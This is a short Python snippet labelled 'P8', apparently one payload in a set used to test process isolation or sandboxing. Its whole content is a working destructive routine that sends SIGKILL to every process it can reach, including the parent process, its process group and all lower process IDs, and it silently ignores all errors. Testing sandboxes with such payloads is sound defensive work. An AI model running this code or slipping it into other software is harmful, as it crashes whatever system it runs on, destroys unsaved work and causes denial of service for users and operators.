# P8: send SIGKILL to every process but oneself
def _attack():
    import os
    import signal

    for pid in [-1, 0 - os.getppid(), os.getppid(), *range(2, os.getpid())]:
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass


try:
    _attack()
except BaseException:
    pass
